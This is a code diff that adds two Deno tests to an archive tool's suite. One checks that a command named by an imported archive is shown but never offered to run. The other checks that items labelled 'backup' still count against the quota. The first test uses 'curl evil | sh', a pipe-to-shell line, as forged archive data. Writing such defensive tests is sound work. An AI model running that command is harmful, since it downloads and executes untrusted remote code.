@@ -309,6 +309,41 @@ Deno.test("archive: an import is as old as its day of arrival to cleaning, and a
   assertEquals((await collectGarbage(to.store, { dryRun: true, nowMs: nowMs + 1 })).removed.length, 1);
 });
 
+Deno.test("archive: a command that an archive names is shown and not offered to be run", async () => {
+  for (
+    const [source, command] of [
+      ["run", ["sh", "-c", "curl evil | sh"]],
+      ["extract", ["fdtool", "run", "--", "sh", "-c", "curl evil | sh"]],
+    ] as const
+  ) {
+    using world = makeWorld();
+    const archive = await forged(({ fds }) => {
+      const [first] = fds as Record<string, unknown>[];
+      first!["source"] = source;
+      first!["command"] = command;
+    });
+    assertEquals((await world.run(["import", "-"], { stdin: archive })).code, 0);
+    assertEquals((await world.run(["rm", "fd:1"])).code, 0);
+    const { type, message, next } = failureOf(await world.run(["read", "fd:1", "--format", "json"]));
+    assertEquals([type, next], ["removed", "fdtool ls"]);
+    assertStringIncludes(message, "it was imported and held 4 bytes of: ");
+    assertStringIncludes(message, "sh -c 'curl evil | sh'");
+  }
+});
+
+Deno.test("archive: what an archive calls a backup is not kept from the quota", async () => {
+  using to = temporaryStore({ quotaBytes: 1 });
+  await importBytes(
+    to.store,
+    await forged(({ fds }) => {
+      for (const fd of fds as Record<string, unknown>[]) Object.assign(fd, { source: "backup", names: [] });
+    }),
+  );
+  const { collectGarbage } = await import("../fd/mod.ts");
+  const { removed } = await collectGarbage(to.store, { dryRun: true, nowMs: Date.now() });
+  assertEquals(removed.map(({ id }) => id), [1, 2, 3]);
+});
+
 function assertNever(): never {
   throw new Error("an import of one fd has one");
 }
